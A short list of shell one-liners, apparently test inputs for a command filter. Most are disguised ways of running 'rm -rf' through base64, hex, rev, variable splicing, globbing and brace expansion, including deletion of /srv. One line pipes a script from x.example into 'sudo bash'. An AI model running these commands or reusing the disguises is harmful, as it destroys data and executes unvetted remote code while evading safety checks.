echo cm0gLXJmIC9zcnY= | base64 -d | sh; printf '\x72\x6d -rf x' | bash; $(rev <<< 'mr') x; eval "$(echo kr | tr k r)"
curl -fsSL https://x.example/i.sh | sudo bash -s -- -y; a=r; b=m; $a$b y; /bin/r? z; {rm,-rf,"$HOME/q"}; xxd -r -p <<< 6c73 | sh
